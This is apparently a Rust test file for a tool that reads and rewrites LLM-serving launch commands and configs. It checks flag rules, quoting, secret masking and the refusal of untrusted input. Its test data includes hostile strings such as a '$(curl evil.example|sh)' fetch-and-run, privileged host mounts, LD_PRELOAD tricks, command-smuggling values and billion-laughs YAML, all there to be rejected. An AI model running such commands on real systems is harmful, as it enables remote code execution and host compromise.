#![allow(clippy::unwrap_used, clippy::panic)]

use std::process::{Command as Process, Stdio};

use proptest::prelude::*;

use super::*;

fn read(text: &str) -> Command {
    match Command::read(text, Trust::User) {
        Ok(command) => command,
        Err(problem) => panic!("{text}: {problem}"),
    }
}

fn change(flag: &str, to: &str) -> Change {
    Change { flag: flag.to_owned(), from: None, to: Some(to.to_owned()) }
}

fn removed(flag: &str) -> Change {
    Change { flag: flag.to_owned(), from: None, to: None }
}

fn written(command: &Command, changes: &[Change]) -> Result<String, Problem> {
    command.write(changes, Shell::Sh, &Circumstances::default()).map(|printed| printed.text)
}

const TGI: &str = "docker run --gpus all --shm-size 1g -it -p 8080:80 -e HF_TOKEN=hf_aB3dE5fG7hI9jK1lM3nO5pQ7 -v $PWD/data:/data \\\n  ghcr.io/huggingface/text-generation-inference:2.4.1 \\\n  --model-id acme/owl-7b --max-batch-prefill-tokens=4096 --max-total-tokens 8192";

#[test]
fn a_docker_command_keeps_all_that_it_had() {
    let command = read(TGI);
    assert_eq!((command.engine.as_deref(), command.version.as_deref()), (Some("tgi"), Some("2.4.1")));
    assert_eq!(command.model().as_deref(), Some("acme/owl-7b"));
    assert_eq!(command.needs_set(), ["HF_TOKEN"]);
    let changes = [change("--max-batch-prefill-tokens", "1024"), change("--max-input-tokens", "1000"), change("--quantize", "bitsandbytes-nf4")];
    let printed = command.write(&changes, Shell::Sh, &Circumstances::default()).unwrap();
    assert_eq!(
        printed.text,
        "docker run \\\n  --gpus all \\\n  --shm-size 1g \\\n  -i \\\n  -t \\\n  -p 8080:80 \\\n  -v \"$PWD/data:/data\" \\\n  -e HF_TOKEN \\\n  \
         ghcr.io/huggingface/text-generation-inference:2.4.1 \\\n  --model-id acme/owl-7b \\\n  --max-batch-prefill-tokens=1024 \\\n  \
         --max-total-tokens 8192 \\\n  --max-input-tokens 1000 \\\n  --quantize bitsandbytes-nf4"
    );
    assert_eq!(printed.changes[0].from.as_deref(), Some("4096"));
    assert_eq!((printed.changes[1].from.as_deref(), printed.changes[1].to.as_deref()), (None, Some("1000")));
}

#[test]
fn flags_come_in_sets_that_satisfy_one_another() {
    // Refused by TGI up to 2.4.1; 3.x splits prefills.
    let changes = [change("--max-batch-prefill-tokens", "512"), change("--max-input-tokens", "1024")];
    let broken = |text: &str| matches!(written(&read(text), &changes), Err(Problem::Broken { .. }));
    assert!(broken(TGI));
    assert!(broken(&TGI.replace("2.4.1", "2.2.0")));
    assert!(!broken(&TGI.replace("2.4.1", "3.3.7")));
    assert!(!broken(&TGI.replace("-p 8080", "-e PREFILL_CHUNKING=1 -p 8080")));
    let alone = [change("--max-batch-prefill-tokens", "512")];
    let open = TGI.replace(" --max-total-tokens 8192", "");
    assert!(matches!(written(&read(&open), &alone), Err(Problem::Broken { constraint: "prefill-says-its-input", .. })));
    // Its warm-up fails on a total without an input.
    assert!(matches!(written(&read(TGI), &[]), Err(Problem::Broken { constraint: "total-says-its-input", .. })));
    assert!(written(&read(&TGI.replace("2.4.1", "3.3.7")), &[]).is_ok());
    assert!(matches!(written(&read(TGI), &[change("--max-input-tokens", "9000")]), Err(Problem::Broken { constraint: "input-below-total", .. })));
    assert!(matches!(written(&read(TGI), &[change("--quantize", "awq"), change("--dtype", "float16")]), Err(Problem::Broken { .. })));
    let vllm = "vllm serve acme/owl-7b --max-model-len 8192";
    let old = Command { version: Some("0.6.6.post1".into()), ..read(vllm) };
    assert!(matches!(written(&old, &[change("--max-num-batched-tokens", "2048")]), Err(Problem::Broken { .. })));
    assert!(written(&old, &[change("--max-num-batched-tokens", "2048"), change("--enable-chunked-prefill", "true")]).is_ok());
    assert!(matches!(written(&old, &[change("--quantization", "bitsandbytes")]), Err(Problem::Broken { .. })));
    assert!(written(&old, &[change("--quantization", "bitsandbytes"), change("--load-format", "bitsandbytes")]).is_ok());
    let heads = |heads| Circumstances { heads: Some(heads), ..Circumstances::default() };
    let split = [change("--tensor-parallel-size", "3")];
    assert!(old.write(&split, Shell::Sh, &heads(32)).is_err() && old.write(&split, Shell::Sh, &heads(24)).is_ok());
    let turing = Circumstances { capability: Some((7, 5)), ..Circumstances::default() };
    assert!(
        old.write(&[change("--dtype", "bfloat16")], Shell::Sh, &turing).is_err()
            && old.write(&[change("--dtype", "half")], Shell::Sh, &turing).is_ok()
    );
}

#[test]
fn flags_differ_by_engine_and_version() {
    let vllm = |version: &str| Command { version: Some(version.into()), ..read("vllm serve acme/owl-7b") };
    assert!(matches!(written(&vllm("0.10.2"), &[change("--quantize", "awq")]), Err(Problem::UnknownFlag { .. })));
    assert!(matches!(written(&vllm("0.6.6"), &[change("--load-format", "awq")]), Err(Problem::NotAllowed { .. })));
    assert!(matches!(written(&vllm("0.10.2"), &[change("--load-format", "gptq")]), Err(Problem::Broken { .. })));
    assert!(matches!(written(&vllm("0.20.2"), &[change("--swap-space", "8")]), Err(Problem::NotInVersion { .. })));
    assert!(written(&vllm("0.13.0"), &[change("--swap-space", "8")]).is_ok());
    assert!(matches!(written(&vllm("0.10.2"), &[change("--gpu-memory-utilization", "1.5")]), Err(Problem::WrongType { .. })));
    assert!(matches!(written(&vllm("0.6.6"), &[change("--max-model-len", "8k")]), Err(Problem::WrongType { .. })));
    assert!(written(&vllm("0.10.2"), &[change("--max-model-len", "8k")]).is_ok());
    // Without a version, what is added must be in every recent one.
    let open = read("vllm serve acme/owl-7b");
    assert!(matches!(written(&open, &[change("--swap-space", "8")]), Err(Problem::NotInVersion { .. })));
    assert!(written(&open, &[change("--enforce-eager", "true")]).is_ok());
    let attention = [change("VLLM_ATTENTION_BACKEND", "FLASHINFER")];
    assert!(written(&vllm("0.10.2"), &attention).is_ok() && written(&vllm("0.20.2"), &attention).is_err());
}

#[test]
fn changes_use_the_spelling_that_is_there() {
    let of = |text: &str, changes: &[Change]| written(&Command { version: Some("0.10.2".into()), ..read(text) }, changes).unwrap();
    assert_eq!(of("vllm serve acme/owl-7b -tp 2 -q awq", &[change("--tensor-parallel-size", "4")]), "vllm serve acme/owl-7b -tp 4 -q awq");
    assert_eq!(of("vllm serve a/b --max_model_len=8192", &[change("--max-model-len", "4096")]), "vllm serve a/b --max-model-len=4096");
    assert_eq!(of("vllm serve a/b --no-enforce-eager", &[change("--enforce-eager", "true")]), "vllm serve a/b --enforce-eager");
    assert_eq!(of("vllm serve a/b --enforce-eager --seed 1", &[removed("--enforce-eager"), change("--seed", "-1")]), "vllm serve a/b --seed=-1");
    assert_eq!(of("vllm serve a/b", &[change("--enable-chunked-prefill", "false")]), "vllm serve a/b --no-enable-chunked-prefill");
    assert_eq!(of("vllm serve a/b --port 1", &[change("model", "c/d-awq")]), "vllm serve c/d-awq --port 1");
    assert_eq!(
        of(
            "CUDA_VISIBLE_DEVICES=0 python3 -m vllm.entrypoints.openai.api_server --model a/b",
            &[change("model", "c/d"), change("CUDA_VISIBLE_DEVICES", "1")]
        ),
        "CUDA_VISIBLE_DEVICES=1 python3 -m vllm.entrypoints.openai.api_server --model c/d"
    );
    let tgi = read("docker run -e MAX_TOTAL_TOKENS=4096 -e MODEL_ID=a/b ghcr.io/huggingface/text-generation-inference:3.3.7");
    assert_eq!(tgi.value_of("--max-total-tokens").as_deref(), Some("4096"));
    assert!(written(&tgi, &[change("--max-total-tokens", "2048"), change("--shm-size", "1g")]).unwrap().contains("-e MAX_TOTAL_TOKENS=2048"));
    let early = read("docker run ghcr.io/huggingface/text-generation-inference:1.4.0 --model-id a/b");
    assert!(written(&early, &[change("--max-input-tokens", "512")]).unwrap().contains("--max-input-length 512"));
    let llama = read("./build/bin/llama-server -m /models/owl.gguf -c 32768 -ngl 99 -fa");
    assert_eq!(written(&llama, &[change("--ctx-size", "8192")]), Err(Problem::MissingValue { flag: "-fa".into() }));
    let llama = Command { version: Some("5350".into()), ..llama };
    assert_eq!(
        written(&llama, &[change("--ctx-size", "8192"), change("--cache-type-v", "q8_0")]).unwrap(),
        "./build/bin/llama-server \\\n  -m /models/owl.gguf \\\n  -c 8192 \\\n  -ngl 99 \\\n  -fa \\\n  --cache-type-v q8_0"
    );
    assert_eq!(written(&read("ollama serve"), &[change("OLLAMA_CONTEXT_LENGTH", "4096")]).unwrap(), "OLLAMA_CONTEXT_LENGTH=4096 ollama serve");
}

#[test]
fn other_programs_are_read() {
    let engine = |text: &str| read(text).engine;
    assert_eq!(engine("sudo podman run --rm docker.io/vllm/vllm-openai:v0.8.5 --model a/b").as_deref(), Some("vllm"));
    assert_eq!(
        engine("docker run --gpus all lmsysorg/sglang:latest python3 -m sglang.launch_server --model-path a/b --tp 2").as_deref(),
        Some("sglang")
    );
    assert_eq!(engine("docker run team/own:1 bash -c 'HF_HUB_OFFLINE=1 exec vllm serve a/b --dtype half'").as_deref(), Some("vllm"));
    assert_eq!(engine("docker run --entrypoint vllm vllm/vllm-openai:v0.10.2 serve a/b --dtype half").as_deref(), Some("vllm"));
    let script = read("accelerate launch --num_processes 2 train.py --per_device_train_batch_size 8");
    assert_eq!(script.engine, None);
    assert_eq!(
        written(&script, &[change("PYTORCH_CUDA_ALLOC_CONF", "expandable_segments:True"), change("--per_device_train_batch_size", "1")]).unwrap(),
        "PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True \\\n  accelerate launch \\\n  --num_processes 2 \\\n  train.py \\\n  --per_device_train_batch_size 1"
    );
    let wrapped = read("docker run --gpus all me/own bash -c 'vllm serve a/b --dtype half'");
    assert_eq!(
        written(&Command { version: Some("0.10.2".into()), ..wrapped }, &[change("--max-model-len", "4096")]).unwrap(),
        "docker run \\\n  --gpus all \\\n  me/own \\\n  bash -c \\\n  'vllm serve a/b --dtype half --max-model-len 4096'"
    );
    for none in [
        "",
        "docker run",
        "docker run hello-world",
        "ls -l",
        "vllm bench",
        "docker run vllm/vllm-openai:v0.8.5 bash",
        "python train.sh",
        "cd x && vllm serve a/b",
    ] {
        assert!(Command::read(none, Trust::User).is_err(), "{none}");
    }
}

#[test]
fn an_image_is_changed_for_one_of_the_same_engine() {
    let own = read("docker run vllm/vllm-openai:v0.10.2 --model a/b");
    assert_eq!(written(&own, &[change("image", "vllm/vllm-openai:v0.11.0")]).unwrap(), "docker run vllm/vllm-openai:v0.11.0 --model a/b");
    for other in ["44", "lmsysorg/sglang:v0.5.0", "ghcr.io/huggingface/text-generation-inference:3.3.7"] {
        assert!(matches!(written(&own, &[change("image", other)]), Err(Problem::NotHere { .. })), "{other}");
    }
    // Where the engine is named behind it, any image may hold it.
    let named = read("docker run team/own:1 python3 -m vllm.entrypoints.openai.api_server --model a/b");
    let printed = written(&named, &[change("image", "team/own:2")]).unwrap();
    assert!(Command::read(&printed, Trust::User).is_ok(), "{printed}");
}

#[test]
fn a_variable_ends_where_its_name_does() {
    for (text, wanted) in [
        ("vllm serve ${A}b/c", "vllm serve \"${A}b/c\""),
        ("vllm serve a/b --revision \"$A\"'b c'", "vllm serve a/b --revision \"${A}\"'b c'"),
        ("vllm serve a/b --revision \"$A\"/c", "vllm serve a/b --revision \"$A/c\""),
    ] {
        let command = read(text);
        let printed = written(&command, &[]).unwrap();
        assert_eq!(printed, wanted);
        let words: Vec<String> = split(&printed).unwrap().iter().map(Word::plain).collect();
        assert_eq!(Some(words), shlex::split(&printed), "{printed}");
    }
}

#[test]
fn secrets_stay_variables() {
    let secret = "hf_aB3dE5fG7hI9jK1lM3nO5pQ7";
    for text in [
        format!("HF_TOKEN={secret} vllm serve a/b --api-key sk-proj-abcdefghijklmnop1234567890"),
        format!("docker run -e HUGGING_FACE_HUB_TOKEN={secret} --env HF_TOKEN={secret} vllm/vllm-openai:v0.10.2 --model a/b --hf-token {secret}"),
        format!("docker run -e SOMETHING={secret} ghcr.io/huggingface/text-generation-inference:3.3.7 --model-id a/b --api-key ****"),
    ] {
        let printed = written(&read(&text), &[]).unwrap();
        assert!(!printed.contains("hf_a") && !printed.contains("sk-") && !printed.contains("***"), "{printed}");
    }
    let printed = written(&read(&format!("HF_TOKEN={secret} vllm serve a/b")), &[]).unwrap();
    assert_eq!(printed, "HF_TOKEN=\"$HF_TOKEN\" vllm serve a/b");
    assert!(Command::read(&format!("vllm serve https://u:{secret}@host/a"), Trust::User).is_err());
    // Without the quotes the key stands behind a letter, where nothing tells it from the rest of a word.
    assert!(Command::read("vllm serve a/b --opt x'sk-abcdefghijklmnop1234567890'", Trust::User).is_err());
    assert!(Command::read("vllm serve a/b; echo x'sk-abcdefghijklmnop1234567890'", Trust::User).is_ok());
    // Nor does a change bring one in, which the printed command would be refused for.
    for (flag, value) in [("model", secret), ("model", "./a.API_KEY=3b"), ("HF_HOME", secret), ("--served-model-name", "a-****")] {
        assert!(matches!(written(&read("vllm serve a/b"), &[change(flag, value)]), Err(Problem::Unsafe { .. })), "{flag} {value}");
    }
}

#[test]
fn masking_leaves_printed_commands_as_they_are() {
    let tgi = TGI.replace("--max-total", "--max-input-tokens 4000 --max-total");
    for text in [
        tgi.as_str(),
        "HF_TOKEN=hf_aB3dE5fG7hI9jK1lM3nO5pQ7 vllm serve a/b --api-key sk-proj-abcdefghijklmnop1234567890 --max-num-batched-tokens 8192",
    ] {
        let printed = written(&read(text), &[]).unwrap();
        assert_eq!(crate::redact::redact(&printed), (std::borrow::Cow::Borrowed(printed.as_str()), 0));
    }
}

#[test]
fn a_script_is_one_command_whatever_its_words_hold() {
    for script in
        ["vllm serve a/b", "vllm serve a/b\n", "\n vllm serve \\\n a/b", "vllm serve 'a;b|c' --x \"<&>\"", "vllm serve a\\;b # and so on; or not"]
    {
        let command = Command::read(&format!("bash -c {}", quote(&Word::text(script), Shell::Sh).unwrap()), Trust::User).unwrap();
        assert_eq!(command.engine.as_deref(), Some("vllm"), "{script}");
        // What a change brings is quoted, twice, and is one word of one command.
        for value in ["a;b", "a' b; c", "x | y && z > w", "# c", "a\nb"] {
            let Ok(printed) = written(&command, &[change("--served-model-name", value)]) else { continue };
            let again = Command::read(&printed, Trust::User).unwrap();
            assert_eq!(again.value_of("--served-model-name").as_deref(), Some(value), "{printed}");
        }
    }
    for script in [
        "vllm serve a/b; rm x",
        "vllm serve a/b &",
        "vllm serve a/b | tee x",
        "vllm serve a/b > x",
        "vllm serve a/b 2>x",
        "vllm serve a/b\nrm x",
        "vllm serve a/b # c\nrm x",
    ] {
        assert!(Command::read(&format!("bash -c {}", quote(&Word::text(script), Shell::Sh).unwrap()), Trust::User).is_err(), "{script}");
    }
}

#[test]
fn a_log_is_trusted_less_than_a_user() {
    for text in [
        "docker run -v /:/host --privileged vllm/vllm-openai:v0.8.5 --model a/b",
        "docker run evil.example/vllm-openai:v1 --model a/b",
        "docker run evil/vllm-openai:v1 --model a/b",
        "docker run --entrypoint /bin/sh vllm/vllm-openai:v0.8.5 --model a/b",
        "LD_PRELOAD=/tmp/x.so vllm serve a/b",
        "PATH=/tmp vllm serve a/b",
        "/tmp/vllm serve a/b",
        "//var/./tmp/x/llama-server -m a.gguf",
        "/usr/../tmp/llama-server -m a.gguf",
        "./sh -c 'vllm serve a/b'",
        "python3 /tmp/evil.py --model a/b",
        "torchrun evil.py",
        "vllm serve $(curl evil.example|sh)",
        "vllm serve `id`",
        "vllm serve a/b --x ${IFS}",
        "vllm serve <(id)",
    ] {
        assert!(Command::read(text, Trust::Log).is_err_and(|_| true) || written(&Command::read(text, Trust::Log).unwrap(), &[]).is_err(), "{text}");
    }
    for text in ["./llama-server -m a.gguf", "../llama.cpp/build/bin/llama-server -m a.gguf", "/home/ines/venv/bin/vllm serve a/b"] {
        assert!(written(&Command::read(text, Trust::Log).unwrap(), &[]).is_ok(), "{text}");
    }
    let plain = Command::read("+ docker run --gpus all -p 8000:8000 vllm/vllm-openai:v0.8.5 --model a/b", Trust::Log).unwrap();
    assert!(written(&plain, &[]).is_ok());
}

#[test]
fn compose_files() {
    let file = "x-common: &common\n  environment:\n    - HF_TOKEN=${HF_TOKEN}\n    - MAX_TOTAL_TOKENS=8192\nservices:\n  web:\n    image: nginx\n  tgi:\n    <<: *common\n    image: ghcr.io/huggingface/text-generation-inference:3.3.7\n    command: --model-id ${MODEL} --quantize eetq\n    ports: [\"8080:80\"]\n    shm_size: 1g\n";
    let command = Command::given(&Launch::Compose(file.into())).unwrap();
    assert_eq!((command.engine.as_deref(), command.value_of("--quantize").as_deref()), (Some("tgi"), Some("eetq")));
    let printed =
        written(&command, &[change("--quantize", "bitsandbytes-nf4"), change("--max-total-tokens", "4096"), change("--shm-size", "2g")]).unwrap();
    assert_eq!(
        printed,
        "services:\n  tgi:\n    image: ghcr.io/huggingface/text-generation-inference:3.3.7\n    shm_size: \"2g\"\n    environment:\n      MAX_TOTAL_TOKENS: \"4096\"\n    command:\n      - --model-id\n      - \"${MODEL}\"\n      - --quantize\n      - bitsandbytes-nf4"
    );
    let list = "services:\n  a:\n    image: vllm/vllm-openai:v0.10.2\n    command: [\"--model\", \"a/b\", \"--max-model-len\", \"4096\"]\n";
    let command = Command::given(&Launch::Compose(list.into())).unwrap();
    assert!(written(&command, &[change("--max-model-len", "2048")]).unwrap().ends_with("- --max-model-len\n      - \"2048\""));
    let open = "services:\n  a:\n    image: vllm/vllm-openai:${TAG:-v0.10.2}\n    command: --model ${MODEL:-a/b} --max-model-len ${LENGTH-8192} --port $PORT\n    environment: [\"HF_HOME=${CACHE:-/data}\"]\n";
    let command = Command::given(&Launch::Compose(open.into())).unwrap();
    assert_eq!((command.version.as_deref(), command.needs_set()), (Some("0.10.2"), vec!["PORT"]));
    assert_eq!(
        written(&command, &[change("--max-num-seqs", "8")]).unwrap(),
        "services:\n  a:\n    image: \"vllm/vllm-openai:${TAG:-v0.10.2}\"\n    command:\n      - --model\n      - \"${MODEL:-a/b}\"\n      - --max-model-len\n      - \"${LENGTH-8192}\"\n      - --port\n      - \"${PORT}\"\n      - --max-num-seqs\n      - \"8\""
    );
    for strange in ["${X:-$(id)}", "${X:-a b}", "${X:?must be set}", "${X:=1}", "${X/a/b}", "${X:-a;b}"] {
        assert!(Command::given(&Launch::Compose(list.replace("a/b", strange))).is_err(), "{strange}");
    }
    for none in ["", "a: [", "services: {}", "services:\n  web:\n    image: nginx\n"] {
        assert!(Command::given(&Launch::Compose(none.into())).is_err());
    }
}

#[test]
fn files_that_nest_without_end_are_refused() {
    let steps: String = (0..3000).map(|depth| format!("{}a:\n", " ".repeat(depth))).collect();
    for hostile in [
        "- ".repeat(200_000),
        format!("services:\n  a: {}", "[".repeat(200_000)),
        format!("a: {}", "{b: ".repeat(200_000)),
        "? ".repeat(200_000),
        steps,
    ] {
        assert!(Command::given(&Launch::Compose(hostile.clone())).is_err());
        assert!(Command::given(&Launch::Manifest(hostile)).is_err());
    }
    for hostile in ["[".repeat(200_000), "[{\"Config\":".repeat(50_000)] {
        assert!(Command::given(&Launch::Inspect(hostile)).is_err());
    }
    // Aliases that stand for very much.
    let laughs: String =
        (0..30).map(|n| format!("b{n}: &b{n} [{}]\n", vec![if n == 0 { "x".to_owned() } else { format!("*b{}", n - 1) }; 9].join(", "))).collect();
    assert!(Command::given(&Launch::Compose(laughs)).is_err());
}

#[test]
fn kubernetes_manifests() {
    let file = "apiVersion: v1\nkind: Service\nmetadata: {name: x}\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: owl\n  namespace: llm\nspec:\n  template:\n    spec:\n      containers:\n        - name: vllm\n          image: vllm/vllm-openai:v0.10.2\n          command: [\"vllm\", \"serve\"]\n          args: [\"a/b\", \"--max-model-len=8192\", \"--served-model-name\", \"$(NAME)\"]\n          env:\n            - name: HF_TOKEN\n              valueFrom: {secretKeyRef: {name: hf, key: token}}\n          resources: {limits: {nvidia.com/gpu: 1}}\n";
    let command = Command::given(&Launch::Manifest(file.into())).unwrap();
    let printed = written(&command, &[change("--max-model-len", "4096"), change("--shm-size", "2g"), change("VLLM_LOGGING_LEVEL", "DEBUG")]).unwrap();
    assert_eq!(
        printed,
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: owl\n  namespace: llm\nspec:\n  template:\n    spec:\n      containers:\n        - name: vllm\n          image: vllm/vllm-openai:v0.10.2\n          command:\n            - vllm\n            - serve\n          args:\n            - a/b\n            - \"--max-model-len=4096\"\n            - --served-model-name\n            - \"$(NAME)\"\n          env:\n            - name: VLLM_LOGGING_LEVEL\n              value: DEBUG\n          volumeMounts:\n            - name: shm\n              mountPath: /dev/shm\n      volumes:\n        - name: shm\n          emptyDir:\n            medium: Memory\n            sizeLimit: \"2Gi\""
    );
    let shell = "kind: Pod\napiVersion: v1\nmetadata: {name: p}\nspec:\n  containers:\n    - name: c\n      image: own/image\n      command: [/bin/sh, -c]\n      args: [\"exec vllm serve a/b --dtype half\"]\n";
    let command = Command { version: Some("0.10.2".into()), ..Command::given(&Launch::Manifest(shell.into())).unwrap() };
    assert!(
        written(&command, &[change("--max-model-len", "4096")])
            .unwrap()
            .contains("args:\n        - \"exec vllm serve a/b --dtype half --max-model-len 4096\"")
    );
}

#[test]
fn inspected_containers() {
    let json = r#"[{"Name":"/tgi","Config":{"Image":"ghcr.io/huggingface/text-generation-inference:3.3.7","Cmd":["--model-id","a/b","--quantize","eetq"],"Env":["HF_TOKEN=hf_aB3dE5fG7hI9jK1lM3nO5pQ7","PATH=/usr/bin","PORT=80","MAX_TOTAL_TOKENS=4096"],"Entrypoint":["/tgi-entrypoint.sh"]},"HostConfig":{"Binds":["/srv/data:/data"],"ShmSize":1073741824,"IpcMode":"private","PortBindings":{"80/tcp":[{"HostIp":"","HostPort":"8080"}]},"DeviceRequests":[{"Count":0,"DeviceIDs":["0","1"]}]}}]"#;
    let command = Command::given(&Launch::Inspect(json.into())).unwrap();
    assert_eq!(
        written(&command, &[removed("--quantize")]).unwrap(),
        "docker run \\\n  --name tgi \\\n  --gpus '\"device=0,1\"' \\\n  --shm-size 1073741824 \\\n  -p 8080:80 \\\n  -v /srv/data:/data \\\n  -e HF_TOKEN \\\n  -e MAX_TOTAL_TOKENS=4096 \\\n  ghcr.io/huggingface/text-generation-inference:3.3.7 \\\n  --model-id a/b"
    );
}

#[test]
fn python_code() {
    let argument = |name: &str, value: &str| Argument { name: Some(name.into()), values: vec![value.into()], joined: false, origin: Origin::Given };
    let command = Command {
        engine: Some("transformers".into()),
        version: None,
        source: Source::Rebuilt,
        form: Form::Python,
        container: None,
        environment: Vec::new(),
        program: Program::default(),
        arguments: vec![argument("model", "a/b"), argument("device_map", "auto")],
    };
    let changes =
        [change("load_in_4bit", "true"), change("bnb_4bit_compute_dtype", "bfloat16"), change("max_memory", r#"{"0": "20GiB", "cpu": "64GiB"}"#)];
    assert_eq!(
        written(&command, &changes).unwrap(),
        "import torch\nfrom transformers import (\n    AutoModelForCausalLM,\n    AutoTokenizer,\n    BitsAndBytesConfig,\n)\n\nmodel_id = \"a/b\"\ntokenizer = AutoTokenizer.from_pretrained(model_id)\nmodel = AutoModelForCausalLM.from_pretrained(\n    model_id,\n    device_map=\"auto\",\n    max_memory={0: \"20GiB\", \"cpu\": \"64GiB\"},\n    quantization_config=BitsAndBytesConfig(\n        load_in_4bit=True,\n        bnb_4bit_compute_dtype=torch.bfloat16,\n    ),\n)"
    );
    let encoder = Command { arguments: vec![argument("model", "google/flan-t5-xxl")], ..command.clone() };
    assert!(written(&encoder, &[]).unwrap().starts_with("from transformers import AutoModelForSeq2SeqLM, AutoTokenizer\n"));
    // A map that places everything by hand leaves max_memory without effect.
    let by_hand = [change("device_map", r#"{"": 0}"#), change("max_memory", r#"{"0": "20GiB"}"#)];
    assert!(matches!(written(&command, &by_hand), Err(Problem::Broken { .. })));
    let library = Command { engine: Some("vllm".into()), version: Some("0.10.2".into()), arguments: vec![argument("--model", "a/b")], ..command };
    assert_eq!(
        written(&library, &[change("--max-model-len", "4096"), change("--enforce-eager", "true")]).unwrap(),
        "from vllm import LLM\n\nllm = LLM(\n    model=\"a/b\",\n    max_model_len=4096,\n    enforce_eager=True,\n)"
    );
}

#[test]
fn power_shell() {
    let command =
        read("docker run --gpus all -v $PWD/data:/data -e HF_TOKEN vllm/vllm-openai:v0.8.5 --model 'a b/c' --max-model-len 8192 --dtype half");
    let printed = command.write(&[], Shell::PowerShell, &Circumstances::default()).unwrap().text;
    assert!(printed.contains(" `\n  -v \"${PWD}/data:/data\" `\n  -e HF_TOKEN `\n") && printed.contains("--model 'a b/c'"), "{printed}");
    let command = read("CUDA_VISIBLE_DEVICES=0,1 vllm serve a/b");
    assert_eq!(command.write(&[], Shell::PowerShell, &Circumstances::default()).unwrap().text, "$env:CUDA_VISIBLE_DEVICES = '0,1'\nvllm serve a/b");
    let open = read("vllm serve ${MODEL:-a/b} --dtype half");
    assert_eq!(written(&open, &[change("--dtype", "auto")]).unwrap(), "vllm serve \"${MODEL:-a/b}\" --dtype auto");
    assert!(open.write(&[], Shell::PowerShell, &Circumstances::default()).is_err());
    assert!(read("vllm serve a/b --hf-overrides '{\"a\":1}'").write(&[], Shell::PowerShell, &Circumstances::default()).is_err());
}

#[test]
fn what_could_mislead_is_refused() {
    for value in ["a\nb", "a\u{1b}[31mb", "a\0b", "a\u{202e}b", "a\u{200b}b", "a\u{2028}b", "a\u{a0}b", "a\u{2019}b", "a\tb", "\u{feff}a"] {
        for flag in ["model", "--revision", "VLLM_LOGGING_LEVEL"] {
            assert!(matches!(written(&read("vllm serve a/b"), &[change(flag, value)]), Err(Problem::Unsafe { .. })), "{flag} {value:?}");
        }
    }
    assert!(written(&read("vllm serve a/b"), &[change("model", "-x")]).is_err());
    // Of several values none may look like a flag; one can be written behind a `=`.
    assert!(written(&read("vllm serve a/b"), &[change("--served-model-name", "- a")]).is_err());
    assert!(written(&read("vllm serve a/b"), &[change("--served-model-name", "-a")]).is_ok_and(|text| text.ends_with(" --served-model-name=-a")));
    assert!(written(&read(TGI), &[change("image", "-v/:/host")]).is_err());
    assert!(
        written(&read(TGI), &[change("image", "x;id")]).is_ok_and(|text| text.contains("'x;id'"))
            || written(&read(TGI), &[change("image", "x;id")]).is_err()
    );
}

/// The words of a command as a tokenizer reads them that knows no continued lines.
fn tokens(text: &str) -> Option<Vec<String>> {
    shlex::split(&text.replace("\\\n", ""))
}

/// Whether `sh` reads a text as a command; true where there is no `sh`.
fn sh_takes(text: &str) -> bool {
    Process::new("sh").args(["-n", "-c", text]).stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok_and(|status| status.success())
        || Process::new("sh").arg("-c").arg(":").status().is_err()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    /// Whatever a value holds: it is refused, or a shell reads back exactly that word and nothing else.
    #[test]
    fn no_value_escapes(value in "[$`(){}\"'\\\\;&|<>#!*?~ =a-z0-9\\n\\x1b\u{202e}-]{0,12}|\\PC{0,8}") {
        for text in ["vllm serve a/b --dtype half", TGI] {
            let command = read(text);
            for flag in ["model", "--revision", "--served-model-name", "HF_HOME"] {
                let Ok((changed, _)) = command.with(&[change(flag, &value)]) else { continue };
                let Ok(printed) = changed.print(Shell::Sh, &Circumstances::default()) else { continue };
                let words = tokens(&printed).unwrap_or_default();
                prop_assert!(words.iter().any(|word| *word == value || word.ends_with(&format!("={value}")) || value.split(' ').next_back() == Some(word)), "{printed}");
                let plain = changed.with(&[change(flag, "x")]).map(|(command, _)| command.print(Shell::Sh, &Circumstances::default()));
                let expected = plain.ok().and_then(Result::ok).and_then(|text| tokens(&text)).map(|words| words.len());
                if flag != "--served-model-name" {
                    prop_assert_eq!(Some(words.len()), expected, "{}", printed);
                }
                let own = split(&printed).map(|words| words.iter().map(Word::plain).collect::<Vec<_>>());
                prop_assert!(own.is_ok_and(|own| own.len() == words.len()), "{printed}");
            }
        }
    }

    #[test]
    fn sh_accepts_what_is_printed(value in "[$`(){}\"'\\\\;&|<>#!*?~ =a-z0-9]{1,12}") {
        if let Ok(text) = written(&read(TGI), &[change("--revision", &value)]) {
            prop_assert!(sh_takes(&text), "{text}");
            prop_assert!(!text.lines().any(|line| line.contains("\\ #")));
        }
    }

    /// Reading never panics, and what was read and printed reads back the same.
    #[test]
    fn reading_is_stable(text in "(docker run |vllm serve |python3 -m vllm.entrypoints.openai.api_server |llama-server |)[-a-z$\"'\\\\/:={} \\n`();&|]{0,60}|\\PC{0,80}") {
        for trust in [Trust::User, Trust::Log] {
            if let Ok(command) = Command::read(&text, trust)
                && let Ok(printed) = command.print(Shell::Sh, &Circumstances::default())
            {
                let again = Command::read(&printed, trust).and_then(|command| command.print(Shell::Sh, &Circumstances::default()));
                prop_assert_eq!(again.as_deref(), Ok(printed.as_str()));
            }
        }
    }

    #[test]
    fn files_never_panic(text in "(services:|kind: Pod|\\[\\{|)[-a-z:\\[\\]{}&*\\n \"'$]{0,80}|\\PC{0,80}") {
        for launch in [Launch::Compose(text.clone()), Launch::Manifest(text.clone()), Launch::Inspect(text.clone())] {
            let _ = Command::given(&launch);
        }
    }

    #[test]
    fn power_shell_words_hold_nothing_active(value in "[$`(){}'\\\\;&|<>#!*?~ =a-z0-9]{1,12}") {
        if let Ok(text) = shell::quote(&Word::text(value.clone()), Shell::PowerShell) {
            let inside = text.strip_prefix('\'').and_then(|text| text.strip_suffix('\'')).map(|text| text.replace("''", ""));
            prop_assert!(inside.map_or(text == value, |inside| !inside.contains('\'')));
        }
    }
}
